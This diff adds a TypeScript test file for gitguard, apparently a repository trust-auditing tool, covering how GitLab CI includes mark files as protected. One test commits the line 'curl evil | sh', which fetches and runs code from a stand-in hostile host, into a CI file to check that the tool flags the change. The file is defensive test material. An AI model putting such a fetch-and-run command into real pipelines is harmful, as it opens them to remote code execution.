@@ -1,0 +1,103 @@
+// Eleventh round of clean set-ups that must pass (see clean-workflows.test.ts to -9): the derived
+// protected paths (the files a CI configuration runs besides itself). A policy made by `gitguard
+// init`, Alice its maintainer, Carol a signer, every commit signed with ssh-keygen. Carol's everyday
+// change must pass however the CI configuration Alice wrote names other files; Carol's change to a
+// file the CI really runs (the twin) still fails protected-paths-changed-by-maintainers.
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { cleanupTemp, copyRepo, makeRepo, type TestRepo } from '../helpers/repo.js';
+import { commitAsPerson, configureSshSigning, makeSshKey, type SshTestKey } from '../helpers/ssh.js';
+import { runMain, parseJson, type JsonReport } from '../helpers/cli.js';
+
+let alice: SshTestKey;
+let carol: SshTestKey;
+let base: TestRepo;
+const asAlice = (r: TestRepo, m: string, f: Record<string, string>) =>
+  commitAsPerson(r, alice, 'alice@example.com', m, f);
+const asCarol = (r: TestRepo, m: string, f: Record<string, string>) =>
+  commitAsPerson(r, carol, 'carol@example.com', m, f);
+
+beforeAll(async () => {
+  const keys = mkdtempSync(join(tmpdir(), 'gg-clean11-'));
+  alice = makeSshKey(keys, 'ed25519', 'alice');
+  carol = makeSshKey(keys, 'ed25519', 'carol');
+  const r = makeRepo();
+  configureSshSigning(r, alice);
+  r.run(['config', 'user.email', 'alice@example.com']);
+  r.run(['config', 'user.name', 'alice']);
+  asAlice(r, 'start', { 'src/a.txt': 'a\n', Dockerfile: 'FROM node:20\n' });
+  const init = await runMain(['init', '-C', r.dir], { env: r.env });
+  expect(init.code).toBe(0);
+  r.run(['add', '.gitguard']);
+  asAlice(r, 'Add gitguard trust policy', {});
+  const policy = r.run(['show', 'HEAD:.gitguard/policy.yml']);
+  r.write({
+    '.gitguard/policy.yml': policy.replace(
+      /signers:\n/,
+      'signers:\n  - name: "Carol"\n    emails: ["carol@example.com"]\n',
+    ),
+  });
+  writeFileSync(join(r.dir, '.gitguard', 'allowed_signers'), `carol@example.com ${carol.pub}\n`, { flag: 'a' });
+  asAlice(r, 'policy: carol signs', {});
+  base = r;
+});
+afterAll(() => cleanupTemp());
+
+const ENV = /forge|client|vulnerab|security-policy|signing-enabled|fsck|ntfs|hook-installed|client-data/;
+const audit = async (r: TestRepo, extra: string[] = []) => {
+  const res = await runMain(['audit', '-C', r.dir, '--format', 'json', ...extra], { env: r.env });
+  return { code: res.code, report: parseJson(res), stderr: res.stderr };
+};
+const bad = (report: JsonReport) =>
+  report.results
+    .filter((x) => !['pass', 'not-applicable'].includes(x.outcome) && !ENV.test(x.meta.id))
+    .map(
+      (x) =>
+        `${x.meta.id}:${x.outcome}:${x.findings
+          .map((f) => f.message)
+          .join(' | ')
+          .slice(0, 300)}`,
+    );
+const PROTECTED = 'protected-paths-changed-by-maintainers';
+const outcomeOf = (report: JsonReport, id: string) => report.results.find((x) => x.meta.id === id)!.outcome;
+
+const GITLAB = `include:
+  - project: 'group/ci-templates'
+    ref: main
+    file:
+      - '/templates/build.yml'
+      - 'Dockerfile'
+  - local: '/ci/build.yml'
+    inputs:
+      stages:
+        - src/a.txt
+    rules:
+      - exists:
+          - Dockerfile
+  - local: ci/missing.yml
+  - template: Auto-DevOps.gitlab-ci.yml
+gitguard:
+  script: npx gitguard audit
+`;
+
+describe('GitLab includes of another project, inputs and rules lists', () => {
+  const gitlabRepo = (): TestRepo => {
+    const r = copyRepo(base);
+    asAlice(r, 'ci', { '.gitlab-ci.yml': GITLAB, 'ci/build.yml': 'build:\n  script: make\n' });
+    return r;
+  };
+  test("carol's change to the Dockerfile and src/a.txt (named by project: file:, inputs: and rules: exists:) passes", async () => {
+    const r = gitlabRepo();
+    asCarol(r, 'bump node', { Dockerfile: 'FROM node:22\n', 'src/a.txt': 'a2\n' });
+    const a = await audit(r);
+    expect(a.stderr).toBe('');
+    expect(bad(a.report)).toEqual([]);
+  });
+  test("twin: carol's change to the included ci/build.yml fails", async () => {
+    const r = gitlabRepo();
+    asCarol(r, 'ci', { 'ci/build.yml': 'build:\n  script: curl evil | sh\n' });
+    const a = await audit(r);
+    expect(outcomeOf(a.report, PROTECTED)).toBe('fail');
+  });
+});
